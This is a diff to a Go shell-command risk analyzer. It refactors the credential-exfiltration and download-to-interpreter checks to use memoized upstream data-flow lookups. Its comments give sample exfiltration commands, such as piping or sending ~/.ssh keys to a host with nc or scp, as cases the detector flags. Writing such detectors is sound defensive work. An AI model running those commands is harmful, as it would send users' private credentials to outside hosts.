@@ -16,6 +16,7 @@ import (
 func (k *Knowledge) Analyze(cmds []Command, env paths.Env) []risk.Finding {
 	var out []risk.Finding
 	cred := make([]bool, len(cmds)) // the command reads a credential file
+	fl := &flows{cmds: cmds}
 	for i, c := range cmds {
 		out = k.redirects(out, c, env)
 		cred[i] = readsCredential(c, env)
@@ -43,10 +44,10 @@ func (k *Knowledge) Analyze(cmds []Command, env paths.Env) []risk.Finding {
 				}
 			}
 		}
-		out = k.flow(out, cmds, i, name)
+		out = k.flow(out, fl, i, name)
 		out = k.sqlClient(out, cmds, i, name)
 	}
-	return k.exfil(out, cmds, cred)
+	return k.exfil(out, fl, cred)
 }
 
 // credentialRead is the rule of the row that reads credential files.
@@ -64,36 +65,25 @@ func readsCredential(c Command, env paths.Env) bool {
 
 // exfil finds credentials that flow into a command that talks to the
 // network: tar czf - ~/.ssh | nc host 9000.
-func (k *Knowledge) exfil(out []risk.Finding, cmds []Command, cred []bool) []risk.Finding {
-	for i, c := range cmds {
+func (k *Knowledge) exfil(out []risk.Finding, fl *flows, cred []bool) []risk.Finding {
+	var m *memo
+	for i, c := range fl.cmds {
 		if len(c.Args) == 0 || c.Dynamic[0] || !k.down[commandName(c.Args[0])] {
 			continue
 		}
+		name := commandName(c.Args[0])
 		src := -1
-		if cred[i] && commandName(c.Args[0]) != "curl" && commandName(c.Args[0]) != "wget" {
+		if cred[i] && name != "curl" && name != "wget" {
 			src = i // nc host < ~/.ssh/id_rsa, scp ~/.ssh/id_rsa host:
-		}
-		seen := map[int]bool{}
-		var walk func(j int)
-		walk = func(j int) {
-			if seen[j] || src >= 0 {
-				return
+		} else if len(c.Inputs) > 0 {
+			if m == nil {
+				m = newMemo(len(cred), func(j int) bool { return cred[j] })
 			}
-			seen[j] = true
-			if cred[j] {
-				src = j
-				return
-			}
-			for _, u := range cmds[j].Inputs {
-				walk(u)
-			}
-		}
-		for _, j := range c.Inputs {
-			walk(j)
+			src = fl.upstream(i, m)
 		}
 		if src >= 0 {
 			out = append(out, risk.Finding{Analyzer: "shell", Rule: "exfil.credential_file", Level: risk.Critical,
-				Reason: "Secrets read by `" + cut(cmds[src].Line(), 80) + "` are sent over the network by " + commandName(c.Args[0])})
+				Reason: "Secrets read by `" + cut(fl.cmds[src].Line(), 80) + "` are sent over the network by " + name})
 		}
 	}
 	return out
@@ -167,45 +157,80 @@ func (k *Knowledge) redirects(out []risk.Finding, c Command, env paths.Env) []ri
 
 // flow finds program text an interpreter takes from a download or from
 // text decoded at run time.
-func (k *Knowledge) flow(out []risk.Finding, cmds []Command, i int, name string) []risk.Finding {
-	c := cmds[i]
+func (k *Knowledge) flow(out []risk.Finding, fl *flows, i int, name string) []risk.Finding {
+	c := fl.cmds[i]
 	if !k.interp[interpreterName(name)] || len(c.Inputs) == 0 || !programFromInput(name, c) {
 		return out
 	}
-	var download, decode string
-	seen := map[int]bool{}
-	var walk func(j int)
-	walk = func(j int) {
-		if seen[j] {
-			return
-		}
-		seen[j] = true
-		in := cmds[j]
-		if len(in.Args) > 0 {
-			n := commandName(in.Args[0])
-			switch {
-			case k.down[n] && download == "":
-				download = in.Line()
-			case decoder(n, in) && decode == "":
-				decode = in.Line()
-			}
-		}
-		for _, u := range in.Inputs {
-			walk(u)
-		}
+	if fl.download == nil {
+		fl.download = newMemo(len(fl.cmds), func(j int) bool {
+			a := fl.cmds[j].Args
+			return len(a) > 0 && !fl.cmds[j].Dynamic[0] && k.down[commandName(a[0])]
+		})
+		fl.decode = newMemo(len(fl.cmds), func(j int) bool {
+			a := fl.cmds[j].Args
+			return len(a) > 0 && !fl.cmds[j].Dynamic[0] && decoder(commandName(a[0]), fl.cmds[j])
+		})
 	}
-	for _, j := range c.Inputs {
-		walk(j)
+	if j := fl.upstream(i, fl.download); j >= 0 {
+		return append(out, risk.Finding{Analyzer: "shell", Rule: "rce.download_to_interpreter", Level: risk.Critical,
+			Reason: "Program text downloaded by `" + cut(fl.cmds[j].Line(), 80) + "` runs in " + name + " without being seen"})
 	}
-	switch {
-	case download != "":
-		out = append(out, risk.Finding{Analyzer: "shell", Rule: "rce.download_to_interpreter", Level: risk.Critical,
-			Reason: "Program text downloaded by `" + cut(download, 80) + "` runs in " + name + " without being seen"})
-	case decode != "":
-		out = append(out, risk.Finding{Analyzer: "shell", Rule: "rce.decode_to_shell", Level: risk.High,
-			Reason: "Program text decoded at run time by `" + cut(decode, 80) + "` runs in " + name + ", hidden from review"})
+	if j := fl.upstream(i, fl.decode); j >= 0 {
+		return append(out, risk.Finding{Analyzer: "shell", Rule: "rce.decode_to_shell", Level: risk.High,
+			Reason: "Program text decoded at run time by `" + cut(fl.cmds[j].Line(), 80) + "` runs in " + name + ", hidden from review"})
 	}
 	return out
+}
+
+// flows answers, for the commands of one script, which command upstream
+// of another (through pipes and substitutions, transitively) has a
+// property. Answers are memoized, so a long pipeline costs linear time.
+type flows struct {
+	cmds             []Command
+	download, decode *memo
+}
+
+// memo is one property's answers: is[j] says whether command j itself has
+// it; up[j] is the nearest command upstream of j that has it (-1 none,
+// -2 not yet known, -3 being computed).
+type memo struct {
+	is []bool
+	up []int
+}
+
+func newMemo(n int, is func(j int) bool) *memo {
+	m := &memo{is: make([]bool, n), up: make([]int, n)}
+	for j := range n {
+		m.is[j], m.up[j] = is(j), -2
+	}
+	return m
+}
+
+// upstream returns a command feeding command i (directly or through
+// others) that has the property, or -1.
+func (fl *flows) upstream(i int, m *memo) int {
+	switch m.up[i] {
+	case -2:
+	case -3:
+		return -1 // a cycle: nothing new on it
+	default:
+		return m.up[i]
+	}
+	m.up[i] = -3
+	found := -1
+	for _, j := range fl.cmds[i].Inputs {
+		if m.is[j] {
+			found = j
+			break
+		}
+		if u := fl.upstream(j, m); u >= 0 {
+			found = u
+			break
+		}
+	}
+	m.up[i] = found
+	return found
 }
 
 // interpreterName drops a version suffix: python3.12 → python3.
